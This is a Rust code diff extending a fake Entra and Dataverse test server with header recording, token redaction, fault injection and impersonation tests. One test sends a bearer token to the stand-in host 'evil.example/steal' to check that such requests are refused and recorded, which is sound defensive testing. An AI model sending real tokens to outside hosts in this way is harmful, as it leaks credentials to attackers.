@@ -6,18 +6,36 @@
 //!   port with a throw-away CA, for hosts that really connect.
 //!
 //! Requests are routed by host name: [`FakeConfig::login_host`] goes to
-//! `entra`, [`FakeConfig::org_host`] to `dataverse`, anything else gets a 421.
-//! All state (issued tokens, tables, statistics, the request log) lives behind
-//! one mutex, so a `Fake` can be shared freely between threads.
+//! `entra`, [`FakeConfig::org_host`] to `dataverse`, anything else gets a 421
+//! (and is still recorded, `Authorization` included, so a test can prove a
+//! token never reached a foreign host). All state (issued tokens, tables,
+//! queued faults, statistics, the request log) lives behind one mutex, so a
+//! `Fake` can be shared freely between threads.
+//!
+//! The Web API side covers the everyday operations: retrieve (with `$select`,
+//! `$filter`, `$orderby`, `$top`, `$count`, `$expand`, paging, formatted
+//! values), create, update/upsert with `If-Match`/`If-None-Match`, delete,
+//! associate/disassociate via `$ref`, FetchXML with paging cookies, functions
+//! and actions, `$batch` with atomic change sets, impersonation via
+//! `CallerObjectId`, and injected faults ([`Fake::inject`]).
 
+mod annotations;
+mod batch;
 mod dataverse;
 mod entra;
+mod faults;
+mod fetchxml;
 mod ids;
 mod odata;
+mod operations;
+mod path;
 mod percent;
+mod records;
+mod relations;
 mod table;
 mod tls;
 
+pub use faults::{Delivery, Fault};
 pub use tls::{ServerCert, TlsFakeServer, serve_tls, serve_tls_with};
 
 use bytes::Bytes;
@@ -49,6 +67,11 @@ pub const NO_USER_CLIENT_SECRET: &str = "Qz3Q~nouser.Secret_Value-NotReal9876543
 pub const DEMO_ORGANIZATION_ID: &str = "5d9e8c7b-2a41-4f3e-b6d0-1c2e3f4a5b6c";
 /// WhoAmI's `BusinessUnitId` (same for every config).
 pub const DEMO_BUSINESS_UNIT_ID: &str = "c4b3a291-8e7d-4c6f-95a4-3b2c1d0e9f8a";
+/// The Entra object id of a user the demo app may impersonate
+/// (`CallerObjectId: IMPERSONATED_OBJECT_ID`).
+pub const IMPERSONATED_OBJECT_ID: &str = "e39c5d16-675b-48d1-8e67-667427e9c084";
+/// The `systemuserid` of that user: WhoAmI's `UserId` under impersonation.
+pub const IMPERSONATED_USER_ID: &str = "75df116d-d9da-4711-a94b-000d3a34ed47";
 
 /// A connection string for the demo app, in ServiceClient syntax.
 pub fn demo_connection_string() -> String {
@@ -79,6 +102,15 @@ impl fmt::Debug for FakeApp {
     }
 }
 
+/// A (human) user in the environment that apps may impersonate.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct FakeUser {
+    /// The Entra object id (`CallerObjectId`).
+    pub object_id: String,
+    /// The `systemuserid` (`MSCRMCallerID`, WhoAmI's `UserId`).
+    pub user_id: String,
+}
+
 /// What the fake tenant and environment contain.
 #[derive(Clone, Debug)]
 pub struct FakeConfig {
@@ -86,6 +118,8 @@ pub struct FakeConfig {
     pub org_host: String,
     pub login_host: String,
     pub apps: Vec<FakeApp>,
+    /// Users that can be impersonated.
+    pub users: Vec<FakeUser>,
     /// How many demo accounts to seed.
     pub account_count: usize,
     /// `expires_in` of issued tokens; they really expire after this long.
@@ -113,6 +147,10 @@ impl Default for FakeConfig {
                     user_id: ids::stable_guid("no-user"),
                 },
             ],
+            users: vec![FakeUser {
+                object_id: IMPERSONATED_OBJECT_ID.into(),
+                user_id: IMPERSONATED_USER_ID.into(),
+            }],
             account_count: 25,
             token_lifetime_secs: 3599,
         }
@@ -141,23 +179,40 @@ pub struct RecordedRequest {
     pub path_and_query: String,
     /// The raw `Authorization` header (it holds a live token: `Debug` redacts it).
     pub authorization: Option<String>,
+    /// Every request header in order, names lower case; `authorization`'s
+    /// value is replaced by `<scheme> <redacted>` (the raw value is in
+    /// [`RecordedRequest::authorization`]).
+    pub headers: Vec<(String, String)>,
     pub status: u16,
+}
+
+impl RecordedRequest {
+    /// The first value of header `name` (case-insensitive), if sent.
+    pub fn header(&self, name: &str) -> Option<&str> {
+        self.headers
+            .iter()
+            .find(|(n, _)| n.eq_ignore_ascii_case(name))
+            .map(|(_, v)| v.as_str())
+    }
+}
+
+/// `Bearer abc` → `Bearer <redacted>`.
+fn redact(authorization: &str) -> String {
+    match authorization.split_once(' ') {
+        Some((scheme, _)) => format!("{scheme} <redacted>"),
+        None => "<redacted>".to_string(),
+    }
 }
 
 impl fmt::Debug for RecordedRequest {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        let authorization = self
-            .authorization
-            .as_deref()
-            .map(|a| match a.split_once(' ') {
-                Some((scheme, _)) => format!("{scheme} <redacted>"),
-                None => "<redacted>".to_string(),
-            });
+        let authorization = self.authorization.as_deref().map(redact);
         f.debug_struct("RecordedRequest")
             .field("method", &self.method)
             .field("host", &self.host)
             .field("path_and_query", &self.path_and_query)
             .field("authorization", &authorization)
+            .field("headers", &self.headers)
             .field("status", &self.status)
             .finish()
     }
@@ -171,6 +226,17 @@ pub(crate) struct State {
     /// Entity set name → table.
     tables: BTreeMap<&'static str, table::Table>,
     ids: ids::IdSource,
+    faults: faults::FaultQueue,
+    /// The organization-wide row version counter (Dataverse's `versionnumber`).
+    version: u64,
+}
+
+impl State {
+    /// A new row version, greater than every earlier one.
+    fn next_version(&mut self) -> u64 {
+        self.version += 1;
+        self.version
+    }
 }
 
 /// The fake services. Create with [`Fake::new`] or [`Fake::demo`], share the `Arc`.
@@ -190,8 +256,7 @@ impl fmt::Debug for Fake {
 
 impl Fake {
     pub fn new(config: FakeConfig) -> Arc<Fake> {
-        let mut tables = BTreeMap::new();
-        tables.insert("accounts", table::accounts(config.account_count));
+        let tables = table::seed(config.account_count);
         Arc::new(Fake {
             config,
             state: Mutex::new(State {
@@ -200,6 +265,9 @@ impl Fake {
                 tokens: HashMap::new(),
                 tables,
                 ids: ids::IdSource::new(),
+                faults: faults::FaultQueue::default(),
+                // Above every seeded row's version.
+                version: 2_000_000,
             }),
         })
     }
@@ -226,6 +294,19 @@ impl Fake {
         } else {
             misdirected(&host, &self.config)
         };
+        let headers = req
+            .headers()
+            .iter()
+            .map(|(name, value)| {
+                let value = String::from_utf8_lossy(value.as_bytes());
+                let value = if name == header::AUTHORIZATION {
+                    redact(&value)
+                } else {
+                    value.into_owned()
+                };
+                (name.as_str().to_string(), value)
+            })
+            .collect();
         let path_and_query = req
             .uri()
             .path_and_query()
@@ -239,6 +320,7 @@ impl Fake {
                 .headers()
                 .get(header::AUTHORIZATION)
                 .map(|v| String::from_utf8_lossy(v.as_bytes()).into_owned()),
+            headers,
             status: response.status().as_u16(),
         });
         response
@@ -270,6 +352,14 @@ impl Fake {
         for token in self.lock().tokens.values_mut() {
             token.expires = now;
         }
+    }
+
+    /// Makes the next `times` authenticated Dataverse requests (not token or
+    /// discovery requests, not requests to other hosts) meet `fault`. Faults
+    /// queue up in injection order. Faulted requests are still recorded and
+    /// counted in [`FakeStats::api_requests`].
+    pub fn inject(&self, fault: Fault, times: usize) {
+        self.lock().faults.push(fault, times);
     }
 
     pub(crate) fn count_tls_connection(&self) {
@@ -370,6 +460,53 @@ pub(crate) mod test_support {
                 .unwrap(),
         )
     }
+
+    /// The demo org's service root.
+    pub(crate) const BASE: &str = "https://contoso.crm.dynamics.com/api/data/v9.2";
+
+    /// A fake with a token for the demo app.
+    pub(crate) fn demo() -> (Arc<Fake>, String) {
+        let fake = Fake::demo();
+        let token = token_for(&fake, DEMO_CLIENT_ID, DEMO_CLIENT_SECRET);
+        (fake, token)
+    }
+
+    /// `method {BASE}/{path}` with the token, extra headers and a body
+    /// (spaces in `path` are percent-encoded).
+    pub(crate) fn send(
+        fake: &Fake,
+        token: &str,
+        method: &str,
+        path: &str,
+        headers: &[(&str, &str)],
+        body: &str,
+    ) -> Response<Bytes> {
+        let mut req = Request::builder()
+            .method(method)
+            .uri(format!("{BASE}/{}", path.replace(' ', "%20")))
+            .header(header::AUTHORIZATION, format!("Bearer {token}"));
+        for (name, value) in headers {
+            req = req.header(*name, *value);
+        }
+        fake.handle(req.body(Bytes::from(body.to_string())).unwrap())
+    }
+
+    /// The id of seeded account `n` (1-based) or contact `n`.
+    pub(crate) fn account_id(n: usize) -> String {
+        ids::stable_guid(&format!("account/{n}"))
+    }
+
+    pub(crate) fn contact_id(n: usize) -> String {
+        ids::stable_guid(&format!("contact/{n}"))
+    }
+
+    /// Asserts a Dataverse error and returns its message.
+    pub(crate) fn assert_error(resp: &Response<Bytes>, status: u16, code: &str) -> String {
+        assert_eq!(resp.status(), status, "{:?}", resp.body());
+        let body = json(resp);
+        assert_eq!(body["error"]["code"], code, "{body}");
+        body["error"]["message"].as_str().unwrap().to_string()
+    }
 }
 
 #[cfg(test)]
@@ -429,6 +566,124 @@ mod tests {
         assert!(!debug.contains(NO_USER_CLIENT_SECRET));
         assert!(!debug.contains(&token));
         assert!(debug.contains("Bearer <redacted>"));
+    }
+
+    #[test]
+    fn request_headers_are_recorded_with_the_token_redacted() {
+        let (fake, token) = demo();
+        let sent = [
+            ("MSCRM.BypassCustomPluginExecution", "true"),
+            ("MSCRM.SuppressDuplicateDetection", "false"),
+            ("MSCRM.SolutionUniqueName", "sample_solution"),
+            ("Consistency", "Strong"),
+            ("Prefer", "return=representation"),
+            (
+                "x-ms-client-request-id",
+                "5b1b3b9e-0000-4000-8000-000000000001",
+            ),
+            ("If-Match", "*"),
+        ];
+        send(
+            &fake,
+            &token,
+            "PATCH",
+            &format!("accounts({})", account_id(1)),
+            &sent,
+            "{}",
+        );
+        let recorded = fake.requests().pop().unwrap();
+        for (name, value) in sent {
+            assert_eq!(recorded.header(name), Some(value), "{name}");
+        }
+        assert_eq!(recorded.header("authorization"), Some("Bearer <redacted>"));
+        assert_eq!(recorded.authorization, Some(format!("Bearer {token}")));
+        assert!(
+            recorded
+                .headers
+                .iter()
+                .all(|(n, v)| n == &n.to_ascii_lowercase() && !v.contains(&token))
+        );
+    }
+
+    #[test]
+    fn client_request_id_is_echoed_on_dataverse_answers() {
+        let (fake, token) = demo();
+        let id = "0f8fad5b-d9cb-469f-a165-70867728950e";
+        let resp = send(
+            &fake,
+            &token,
+            "GET",
+            "WhoAmI",
+            &[("x-ms-client-request-id", id)],
+            "",
+        );
+        assert_eq!(resp.headers()["x-ms-client-request-id"], id);
+        let resp = send(
+            &fake,
+            &token,
+            "GET",
+            "nope",
+            &[("x-ms-client-request-id", id)],
+            "",
+        );
+        assert_eq!(resp.headers()["x-ms-client-request-id"], id);
+        assert!(
+            send(&fake, &token, "GET", "WhoAmI", &[], "")
+                .headers()
+                .get("x-ms-client-request-id")
+                .is_none()
+        );
+    }
+
+    #[test]
+    fn caller_object_id_impersonates_a_known_user_and_unknown_ones_get_403() {
+        let (fake, token) = demo();
+        let me = json(&send(&fake, &token, "GET", "WhoAmI", &[], ""));
+        assert_eq!(me["UserId"], DEMO_USER_ID);
+        let as_user = send(
+            &fake,
+            &token,
+            "GET",
+            "WhoAmI",
+            &[("CallerObjectId", IMPERSONATED_OBJECT_ID)],
+            "",
+        );
+        assert_eq!(json(&as_user)["UserId"], IMPERSONATED_USER_ID);
+        let legacy = send(
+            &fake,
+            &token,
+            "GET",
+            "WhoAmI",
+            &[("MSCRMCallerID", IMPERSONATED_USER_ID)],
+            "",
+        );
+        assert_eq!(json(&legacy)["UserId"], IMPERSONATED_USER_ID);
+        let unknown = send(
+            &fake,
+            &token,
+            "GET",
+            "WhoAmI",
+            &[("CallerObjectId", "00000000-0000-0000-0000-0000000000ab")],
+            "",
+        );
+        let message = assert_error(&unknown, 403, "0x80072560");
+        assert_eq!(message, "The user is not a member of the organization.");
+    }
+
+    #[test]
+    fn foreign_hosts_are_recorded_with_their_authorization_and_refused() {
+        let fake = Fake::demo();
+        let resp = fake.handle(
+            Request::post("https://evil.example/steal")
+                .header(header::AUTHORIZATION, "Bearer leaked")
+                .body(Bytes::new())
+                .unwrap(),
+        );
+        assert_eq!(resp.status(), 421);
+        let recorded = fake.requests().pop().unwrap();
+        assert_eq!(recorded.authorization.as_deref(), Some("Bearer leaked"));
+        assert_eq!(recorded.status, 421);
+        assert_eq!(fake.stats().api_requests, 0);
     }
 
     #[test]
